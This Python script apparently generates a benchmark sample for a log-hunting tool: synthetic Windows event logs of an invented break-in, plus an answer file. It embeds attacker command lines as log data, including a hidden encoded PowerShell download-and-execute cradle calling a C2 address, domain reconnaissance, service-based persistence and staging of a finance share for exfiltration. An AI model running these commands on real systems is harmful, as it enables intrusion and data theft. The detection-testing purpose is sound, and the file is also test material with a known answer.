"""Writes the sample that ships with HuntBeam: one small break-in, told by four log archives.

    python benchmarks/story.py samples

makes samples/logs/*.ndjson[.gz] and samples/answer.json, the known answer of the four files read as one archive.

The story (4 March 2024, every name and address invented): at 09:02 alice opens an invoice on WS-0002. Word starts
PowerShell, which fetches a helper and calls 203.0.113.66:443 every minute. At 09:31 the intruder reaches SRV-01 and
SRV-02 over SMB (445) and SRV-03 over WinRM (5985); each gets a new service, whose process calls home as well. At
09:50 SRV-01 packs the finance share and sends it to 203.0.113.80.

What makes it hard, as in real archives: WS-0002's agent was upgraded at 09:10, so creates are in winlogbeat6 and later
connects in winlogbeat8; SRV-03's clock is nine days behind in event 3; some processes are older than the archives;
some lines came twice, and some are torn.
"""

from __future__ import annotations

import random
import sys
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import msgspec

sys.path.insert(0, str(Path(__file__).parent))  # for those who load this file by its path

from filler import Filler, encoded_command
from shapes import encode, render
from synthesize import Archive, Tally, dirty_line, opened
from world import (
    BACKUP,
    BROWSER,
    CMD,
    DAY,
    EXPLORER,
    HOUR,
    MINUTE,
    OUTLOOK,
    POWERSHELL_EXE,
    START,
    SVCHOST,
    UPDATER,
    WEB,
    WINRM,
    WORD,
    ZERO_GUID,
    Event,
    Facts,
    Host,
    Process,
    Program,
    make_host,
    make_process,
    network_connect,
    process_create,
    process_terminate,
    service_installed,
)

if TYPE_CHECKING:
    from collections.abc import Sequence

COMMAND_AND_CONTROL, DROP = "203.0.113.66", "203.0.113.80"
UPGRADE = START + HOUR + 10 * MINUTE  # of WS-0002's agent
FILES = {  # name: shape, lines of filler
    "winlogbeat6.ndjson.gz": ("wlb6", 420),
    "winlogbeat7.ndjson": ("wlb7", 24),
    "winlogbeat8.ndjson.gz": ("wlb8", 420),
    "nxlog.ndjson.gz": ("nxlog", 280),
}
_PUBLIC = "C:\\Users\\Public\\Libraries\\"
HELPER = Program(f"{_PUBLIC}printsvc.exe", "1.0.0.0", "Print Helper", "Print Helper", "-", "printsvc.exe", True, "web")
REACHER = Program(f"{_PUBLIC}prx64.exe", "2.1.0.0", "Remote Printing", "Remote Printing", "-", "", False, "files")
PACKER = Program(f"{_PUBLIC}pz.exe", "9.2.0.0", "Packer", "Packer", "-", "", True, "nowhere")


def _tool(name: str) -> Program:
    return CMD._replace(path=f"C:\\Windows\\System32\\{name}.exe", description=name, command=name)


class Line(NamedTuple):
    """A line of one file, to be sorted by time."""

    time: int
    text: bytes
    facts: Facts


class _Spoil(NamedTuple):
    """Which unusable lines a file gets: so many, of the kinds from `first` on."""

    shape: str
    host: Host
    first: int
    lines: int


class Story:
    """Collects the lines of the four files."""

    def __init__(self) -> None:
        self.rnd = random.Random(20_240_304)  # noqa: S311 - made-up data, not secrets
        self.lines: dict[str, list[Line]] = {name: [] for name in FILES}
        users = {"WS-0001": "bruno", "WS-0002": "alice", "WS-0003": "carla", "WS-0004": "deniz"}
        names = ["DC-01", "SRV-01", "SRV-02", "SRV-03", *users]
        self.hosts = {n: make_host(i, n, self.rnd, users.get(n, "svc-ops")) for i, n in enumerate(names)}
        self.hosts["SRV-03"].drift = -(9 * DAY + 5 * HOUR + 11 * MINUTE)
        self.homes = {
            "WS-0001": "winlogbeat6.ndjson.gz",
            "WS-0002": "winlogbeat6.ndjson.gz",
            "WS-0003": "winlogbeat8.ndjson.gz",
            "WS-0004": "nxlog.ndjson.gz",
            "DC-01": "winlogbeat8.ndjson.gz",
            "SRV-01": "winlogbeat7.ndjson",
            "SRV-02": "winlogbeat8.ndjson.gz",
            "SRV-03": "nxlog.ndjson.gz",
        }

    def tell(self, host: Host, event: Event) -> None:
        """Puts an event into the file that its host's records went to at that time."""
        name = host.name.partition(".")[0]
        home = self.homes[name]
        if name == "WS-0002" and event.time >= UPGRADE:
            home = "winlogbeat8.ndjson.gz"
        self.lines[home].append(Line(event.time, render(FILES[home][0], event), event.facts))

    def start(
        self, host: Host, program: Program, when: int, parent: Process | None = None, command: str | None = None
    ) -> Process:
        """A process starts."""
        process = make_process(host, program, when, self.rnd, parent=parent, command=command)
        self.tell(host, process_create(host, process, self.rnd))
        return process

    def connect(
        self, host: Host, process: Process, when: int, dst: str | Host, port: int, clock: str = "right"
    ) -> None:
        """A process connects to an address or to another host."""
        address, name = (dst.ip, dst.name) if isinstance(dst, Host) else (dst, "")
        event = network_connect(host, process, when, self.rnd, dst=address, port=port, dst_name=name, clock=clock)
        self.tell(host, event)

    def end(self, host: Host, process: Process, when: int) -> None:
        self.tell(host, process_terminate(host, process, when, self.rnd))

    def beacon(self, host: Host, process: Process, begin: int, count: int, every: int) -> None:
        """Calls home at intervals that are nearly equal."""
        for n in range(count):
            self.connect(host, process, begin + n * every + self.rnd.randrange(-900, 900), COMMAND_AND_CONTROL, 443)


def at(hour: int, minute: int, second: int = 0) -> int:
    """A time of the day of the story."""
    return START + (hour - 8) * HOUR + minute * MINUTE + second * 1000


def break_in(story: Story) -> Process:
    """A document is opened; PowerShell calls home. Returns the PowerShell process."""
    host = story.hosts["WS-0002"]
    mail = story.start(host, OUTLOOK, at(8, 41))
    story.connect(host, mail, at(8, 41, 20), "198.51.100.8", 443)
    document = f'"{WORD.path}" /n "C:\\Users\\alice\\Downloads\\Invoice-2024-117.docm" /o ""'
    word = story.start(host, WORD, at(9, 2, 11), mail, document)
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{COMMAND_AND_CONTROL}/print')"
    shell = story.start(
        host, POWERSHELL_EXE, at(9, 2, 19), word, f"powershell.exe -NoP -W Hidden -Enc {encoded_command(script)}"
    )
    story.beacon(host, shell, at(9, 2, 25), 30, MINUTE)
    for n, (name, command) in enumerate(
        (
            ("whoami", "whoami /groups"),
            ("net", 'net group "Domain Admins" /domain'),
            ("nltest", f"nltest /dclist:{host.name.partition('.')[2]}"),
        )
    ):
        tool = story.start(host, _tool(name), at(9, 6, 10 + 9 * n), shell, command)
        if name != "whoami":
            story.connect(host, tool, at(9, 6, 11 + 9 * n), story.hosts["DC-01"], 389)
        story.end(host, tool, at(9, 6, 13 + 9 * n))
    return shell


def spread(story: Story, shell: Process) -> None:
    """Three servers are reached, and each gets a service that calls home."""
    host = story.hosts["WS-0002"]
    targets = " ".join(f"\\\\{name}" for name in ("SRV-01", "SRV-02"))
    tool = story.start(host, REACHER, at(9, 31), shell, f"prx64.exe {targets} -s -c {HELPER.path}")
    for n, name in enumerate(("SRV-01", "SRV-02")):
        target = story.hosts[name]
        when = at(9, 31, 4 + 20 * n)
        for again in range(3):
            story.connect(host, tool, when + again * 700, target, 445)
        _service(story, target, when + 4_000)
    story.end(host, tool, at(9, 32, 10))
    target = story.hosts["SRV-03"]
    story.connect(host, shell, at(9, 33, 2), target, 5985)
    story.connect(host, shell, at(9, 33, 3), target, 5985)
    remote = story.start(target, WINRM, at(9, 33, 4))
    command = f"cmd.exe /c sc create PrintHelper binPath= {HELPER.path} && sc start PrintHelper"
    story.end(target, story.start(target, CMD, at(9, 33, 6), remote, command), at(9, 33, 8))
    _service(story, target, at(9, 33, 7))


def _service(story: Story, host: Host, when: int) -> None:
    story.tell(host, service_installed(host, "PrintHelper", HELPER.path, when))
    process = story.start(host, HELPER, when + 900, command=f"{HELPER.path} -k print")
    story.beacon(host, process, when + 5_000, 8, 2 * MINUTE)
    if host.name.startswith("SRV-01"):
        shell = story.start(
            host, CMD, at(9, 50), process, f"cmd.exe /c {PACKER.path} a C:\\Windows\\Temp\\p.bin D:\\Finance"
        )
        packer = story.start(host, PACKER, at(9, 50, 1), shell, f"{PACKER.path} a C:\\Windows\\Temp\\p.bin D:\\Finance")
        story.end(host, packer, at(9, 52, 40))
        for n in range(4):
            story.connect(host, process, at(9, 53, n * 11), DROP, 443)


def office_day(story: Story) -> None:
    """What else goes on: honest programs, processes older than the archives, zero GUIDs, missing times."""
    rnd, domain = story.rnd, story.hosts["DC-01"]
    for host in story.hosts.values():
        old = make_process(host, SVCHOST, START - 2 * DAY, rnd)
        if host is not domain:
            story.connect(host, old, at(8, 20) + rnd.randrange(HOUR), domain, 88)  # no create anywhere
        programs = (EXPLORER, BROWSER, UPDATER) if host.name.startswith("WS") else (BACKUP, UPDATER)
        for program in programs:
            process = story.start(host, program, at(8, 30) + rnd.randrange(20 * MINUTE))
            for _ in range(rnd.randrange(2, 7)):
                when = process.started + 1_000 + rnd.randrange(70 * MINUTE)
                story.connect(host, process, when, WEB[rnd.randrange(len(WEB))], 443)
            if program is UPDATER:
                story.end(host, process, process.started + 80 * MINUTE)
    zero = msgspec.structs.replace(make_process(domain, SVCHOST, START, rnd), guid=ZERO_GUID)
    for n in range(3):
        story.connect(domain, zero, at(9, 0, n), "2001:db8:0:9:0:0:0:35", 53)
    browser = story.start(story.hosts["WS-0001"], BROWSER, at(9, 20))
    story.connect(story.hosts["WS-0001"], browser, at(9, 21), WEB[3], 443, clock="missing")
    story.connect(story.hosts["WS-0001"], browser, at(9, 22), WEB[4], 443, clock="unreadable")


def write_story(folder: Path) -> None:
    """Writes the four files and the answer."""
    (folder / "logs").mkdir(parents=True, exist_ok=True)
    story = Story()
    office_day(story)
    spread(story, break_in(story))
    filler = Filler(story.rnd)
    tally = Tally()
    for number, (name, (shape, count)) in enumerate(FILES.items()):
        hosts = [host for key, host in story.hosts.items() if story.homes[key] == name]
        lines = story.lines[name]
        for _ in range(count):
            when = at(8, 20) + story.rnd.randrange(100 * MINUTE)
            lines.append(Line(when, *filler.line(shape, hosts[story.rnd.randrange(len(hosts))], when)))
        lines.sort()
        with opened(folder / "logs" / name, shape, tally) as archive:
            spoil = _Spoil(shape, hosts[0], number * 2, 2)
            _write(archive, lines, story.rnd, spoil)
    (folder / "answer.json").write_bytes(msgspec.json.format(encode(tally.answer()), indent=1) + b"\n")


def _write(archive: Archive, lines: list[Line], rnd: random.Random, spoil: _Spoil) -> None:
    """Writes a file: two of its lines twice, some late, some spoilt."""
    late = [n for n, line in enumerate(lines) if line.facts.kind[1] == 1][1::5]  # creates that come after connects
    for n in reversed(late):
        line = lines.pop(n)
        lines.insert(min(len(lines), n + rnd.randrange(5, 40)), line)
    twice = set(rnd.sample([n for n, line in enumerate(lines) if line.facts.kind[1] in (1, 3)], 2))
    spoilt = set(rnd.sample(range(10, len(lines)), spoil.lines))
    victim = make_process(spoil.host, SVCHOST, at(9, 1), rnd)
    number = spoil.first
    for n, line in enumerate(lines):
        archive.write(line.text, line.facts)
        if n in twice:
            archive.write(line.text, line.facts, repeat=True)
        if n in spoilt:
            archive.write_dirty(dirty_line(spoil.shape, spoil.host, victim, line.time, number, rnd))
            number += 1


def main(argv: Sequence[str] | None = None) -> int:
    arguments = sys.argv[1:] if argv is None else argv
    if len(arguments) != 1 or arguments[0].startswith("-"):
        sys.stderr.write("usage: python benchmarks/story.py FOLDER\n")
        return 2
    folder = Path(arguments[0])
    write_story(folder)
    return 0


if __name__ == "__main__":
    sys.exit(main())
